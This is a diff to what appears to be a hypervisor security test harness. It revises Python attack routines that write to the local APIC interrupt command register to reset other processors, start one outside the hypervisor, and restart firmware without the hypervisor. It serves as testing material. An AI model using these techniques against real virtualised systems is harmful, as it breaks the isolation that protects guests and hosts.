@@ -1,11 +1,12 @@
 """Attacks with the processor's own instructions: memory, registers, the local APIC, SVM."""
 from attack import Attack, memory_changes
-from victim import SVME, Fault, Gone, command, line
+from victim import SVME, SYSCALLS, Fault, Gone, command, line
 
 APIC = 0xFEE00000
 ICR_LOW, ICR_HIGH = APIC + 0x300, APIC + 0x310
 APIC_BASE, EFER, HSAVE = 0x1B, 0xC0000080, 0xC0010117
 INIT_ASSERT = 0x4500
+ALL_OTHERS = 0xC0000
 
 
 def read_memory(victim):
@@ -67,15 +68,16 @@ def vmrun(victim):
 
 
 def icr_init(victim):
-    victim.fire(line(("mmiow", ICR_HIGH, 4, 1 << 24), ("mmiow", ICR_LOW, 4, INIT_ASSERT)))
+    """INIT to all other processors (a shorthand: Linux shares the register that would hold one destination)."""
+    victim.fire(command("mmiow", ICR_LOW, 4, ALL_OTHERS | INIT_ASSERT))
     return victim.wait_for(lambda: victim.was_reset(1), 5)
 
 
 def icr_init_and_start(victim):
-    """Processor 1 is reset and started at 7000h, where it spins: a processor outside the hypervisor."""
+    """Processor 1 is reset and started at 7000h, where it halts: a processor outside the hypervisor."""
     victim.write_bytes(0x7000, b"\xf4\xeb\xfd")  # hlt; jmp back
-    victim.fire(line(("mmiow", ICR_HIGH, 4, 1 << 24), ("mmiow", ICR_LOW, 4, INIT_ASSERT),
-                     ("mmiow", ICR_LOW, 4, 0x4607), ("mmiow", ICR_LOW, 4, 0x4607)))
+    victim.fire(line(("mmiow", ICR_LOW, 4, ALL_OTHERS | INIT_ASSERT), ("mmiow", ICR_LOW, 4, ALL_OTHERS | 0x4607),
+                     ("mmiow", ICR_LOW, 4, ALL_OTHERS | 0x4607)))
     return victim.wait_for(lambda: victim.was_reset(1) and victim.registers(1)["CS"] == 0x7000, 5)
 
 
@@ -96,10 +98,9 @@ def message_by_write(victim):
 
 
 def message_by_write_low(victim):
-    """The same through register offset 0, for processor 0."""
+    """The same through register offset 0, for processor 0: it starts firmware again, without a hypervisor."""
     victim.fire(line(("mmiow", APIC, 4, INIT_ASSERT)))
-    return victim.wait_for(lambda: victim.was_reset(0) or victim.registers(0)["RIP" if "RIP" in victim.registers(0)
-                           else "EIP"] < 0x100000, 5)
+    return victim.wait_for(lambda: victim.registers(0)["EFER"] & (SVME | SYSCALLS) == 0, 5)
 
 
 def mtrr(victim):
